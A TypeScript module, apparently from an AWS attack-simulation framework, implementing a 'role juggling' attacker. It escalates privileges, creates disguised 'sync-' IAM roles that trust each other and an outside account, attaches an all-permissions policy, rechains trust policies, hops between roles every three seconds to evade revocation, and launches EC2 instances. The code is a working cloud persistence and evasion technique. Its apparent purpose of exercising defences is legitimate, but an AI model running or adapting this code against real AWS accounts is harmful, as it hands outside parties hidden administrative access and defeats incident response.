import { DescribeInstancesCommand } from '@aws-sdk/client-ec2';
import { CreateRoleCommand, PutRolePolicyCommand, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
import type { Foothold } from './arsenal.js';
import { escalate, runInstance } from './escalate.js';
import { assume, trustOf } from './make-ways.js';
import { arrive, type FighterDeps } from './persister.js';
import type { Script, Stage } from './stage.js';
import { OWN_POLICY } from './strip.js';
import { EVERYTHING } from './thefts.js';

/** Between two moves from role to role. */
const HOP_SECONDS = 3;
/** How many roles it has at first, makes at most, and how many instances it runs. */
const FIRST_ROLES = 2;
const MAX_ROLES = 20;
const MAX_INSTANCES = 3;
/** How many of its credentials it tries a role with. */
const DOORS = 4;
/** For so many moves a refusal may mean that the rights of a new role have not arrived yet. */
const PATIENT_TURNS = 4;

type Juggler = FighterDeps & {
  /** ARNs of the roles it moves between. */
  readonly roles: string[];
  readonly count: { made: number; instances: number; lastMadeTurn: number };
};

const HEX = '0123456789abcdef';

/**
 * An attacker who never stays: it makes roles that trust each other, itself and its own account, and moves from one into the next
 * every few seconds, so that each session of it is young and comes from another role (aws-domain 2.2, "role juggling").
 */
export function juggler(deps: FighterDeps): Script {
  const me: Juggler = { ...deps, roles: [], count: { made: 0, instances: 0, lastMadeTurn: 0 } };
  return async (stage) => {
    const first = await arrive(deps, stage);
    if (first === undefined) return;
    let current = first.callsIam ? first : ((await escalate(me, { stage, from: first })) ?? first);
    while (me.roles.length < FIRST_ROLES && (await addRole(me, { stage, current })));
    for (let turn = 0; !stage.isStopped(); turn += 1) {
      current = await hop(me, { stage, current, turn });
      if (!(await works(stage, current))) current = await comeBack(me, { stage, current, turn });
      else if (turn % 4 === 1 && me.count.instances < MAX_INSTANCES) await tryInstance(me, { stage, current });
      await stage.pause(HOP_SECONDS);
    }
  };
}

/** Into the next role, from where it is; else from wherever it still can. */
async function hop(me: Juggler, { stage, current, turn }: { stage: Stage; current: Foothold; turn: number }): Promise<Foothold> {
  const roles = me.roles.length > 0 ? me.roles.slice(-FIRST_ROLES) : me.roleArns;
  const others = roles.filter((arn) => arn !== current.principal.arn);
  const roleArn = others[turn % Math.max(1, others.length)];
  if (roleArn === undefined) return current;
  const { footholds } = me.arsenal;
  const doors = new Set([current, ...footholds.slice(0, 1), ...footholds.slice(-DOORS)]);
  const clients = [...[...doors].map((foothold) => foothold.clients), me.fromOutside];
  for (const by of clients) {
    const gained = await assume(me, { stage, by, roleArn });
    if (gained !== undefined) {
      stage.say(`moves into ${gained.principal.name}`);
      return gained;
    }
  }
  return current;
}

async function works(stage: Stage, foothold: Foothold): Promise<boolean> {
  foothold.works = (await stage.attempt(foothold.clients.ec2.send(new DescribeInstancesCommand({})))).allowed;
  return foothold.works;
}

/** Where it is, it is stopped: another role, made with whatever still works, or another way to one. */
async function comeBack(me: Juggler, { stage, current, turn }: { stage: Stage; current: Foothold; turn: number }): Promise<Foothold> {
  const again = me.signInAgain();
  if (again !== undefined && (await works(stage, again))) return again;
  const { footholds } = me.arsenal;
  const tried = [...new Set([...footholds.slice(0, 1), ...footholds.slice(-DOORS)])];
  await stage.together(tried.map((foothold) => () => works(stage, foothold)));
  const working = tried.findLast((foothold) => foothold.works);
  if (working === undefined) return current;
  if (me.roles.length >= FIRST_ROLES && turn - me.count.lastMadeTurn < PATIENT_TURNS) return working;
  me.count.lastMadeTurn = turn;
  if (await addRole(me, { stage, current: working })) return working;
  return working.callsIam ? working : ((await escalate(me, { stage, from: working })) ?? working);
}

/** Makes a role that trusts the one it is in, what it came in with and its own account; and the one before trusts the new one. */
async function addRole(me: Juggler, { stage, current }: { stage: Stage; current: Foothold }): Promise<boolean> {
  if (me.count.made >= MAX_ROLES) return false;
  const { arsenal, accountId, outsideAccountId } = me;
  const RoleName = `sync-${stage.random.text(HEX, 6)}`;
  const before = me.roles.at(-1);
  const own = [current.principal.arn, ...arsenal.footholds.slice(0, 1).map(({ principal }) => principal.arn)];
  const trusted = (extra: string | undefined): string =>
    trustOf([...new Set([...own, ...(extra === undefined ? [] : [extra]), `arn:aws:iam::${outsideAccountId}:root`])]);
  const made = await arsenal.byIam(stage, (iam) =>
    iam.send(new CreateRoleCommand({ RoleName, AssumeRolePolicyDocument: trusted(before) })),
  );
  if (!made.allowed) return false;
  me.count.made += 1;
  const arn = `arn:aws:iam::${accountId}:role/${RoleName}`;
  stage.say(`makes the role ${RoleName}`);
  const policy = { RoleName, PolicyName: OWN_POLICY, PolicyDocument: EVERYTHING };
  await arsenal.byIam(stage, (iam) => iam.send(new PutRolePolicyCommand(policy)));
  if (before !== undefined) {
    const change = { RoleName: before.split('/').at(-1), PolicyDocument: trusted(arn) };
    await arsenal.byIam(stage, (iam) => iam.send(new UpdateAssumeRolePolicyCommand(change)));
  }
  me.roles.push(arn);
  return true;
}

async function tryInstance(me: Juggler, { stage, current }: { stage: Stage; current: Foothold }): Promise<void> {
  me.count.instances += 1;
  await runInstance(me, { stage, from: current });
}
